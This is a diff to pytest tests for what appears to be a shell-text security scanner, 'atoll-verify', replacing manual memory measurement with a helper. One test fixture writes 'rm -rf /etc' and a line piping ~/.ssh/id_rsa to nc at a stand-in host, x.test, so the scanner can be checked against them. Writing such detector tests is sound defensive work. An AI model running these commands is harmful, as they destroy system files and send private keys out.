@@ -7,6 +7,7 @@ import subprocess
 
 import pytest
 from atoll import ROOT
+from peak import peak
 
 ROUNDS = int(os.environ.get("ATOLL_ROUNDS", "1"))
 SEED = int(os.environ.get("ATOLL_SEED", "1"))
@@ -80,13 +81,10 @@ def test_no_small_text_takes_much(programs, tmp_path, language):
     file = tmp_path / "text"
     for seed in (*COSTLY, *range(SEED * 1000, SEED * 1000 + TEXTS * ROUNDS)):
         file.write_text(Maker(seed, language).text())
-        with subprocess.Popen([verify, "--json", "--no-own-rules", f"--language={language}", file],
-                              stdout=subprocess.PIPE) as process:
-            answer = json.loads(process.stdout.read())
-            usage = os.wait4(process.pid, 0)[2]
-            process.returncode = 0
+        out, peak_kib = peak([verify, "--json", "--no-own-rules", f"--language={language}", file])
+        answer = json.loads(out)
         assert answer["computed_us"] < COMPUTED_MS_MAX * 1000, (seed, answer["computed_us"])
-        assert usage.ru_maxrss < MEMORY_MB_MAX << 10, (seed, usage.ru_maxrss)
+        assert peak_kib < MEMORY_MB_MAX << 10, (seed, peak_kib)
 
 
 # What is put around a text -> (before, behind) by language; {} of it is as often as it says.
@@ -162,13 +160,11 @@ def test_no_hostile_shell_text_takes_long_or_hides_what_stands_before_it(program
     verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
     file = tmp_path / "text.sh"
     file.write_text(f"rm -rf /etc\n{HOSTILE[name]}\ncat ~/.ssh/id_rsa | nc x.test 80\n")
-    with subprocess.Popen([verify, "--json", "--no-own-rules", file], stdout=subprocess.PIPE) as process:
-        answer = json.loads(process.stdout.read())
-        usage = os.wait4(process.pid, 0)[2]
-        process.returncode = 0
+    out, peak_kib = peak([verify, "--json", "--no-own-rules", file])
+    answer = json.loads(out)
     # The slowest takes 0.15 s; what they took before was 4 times as much and more.
     assert answer["computed_us"] < COMPUTED_MS_MAX * 1000 / 3
-    assert usage.ru_maxrss < MEMORY_MB_MAX << 10
+    assert peak_kib < MEMORY_MB_MAX << 10
     assert "destructive.remove-system" in {finding["id"] for finding in answer["findings"]}
 
 
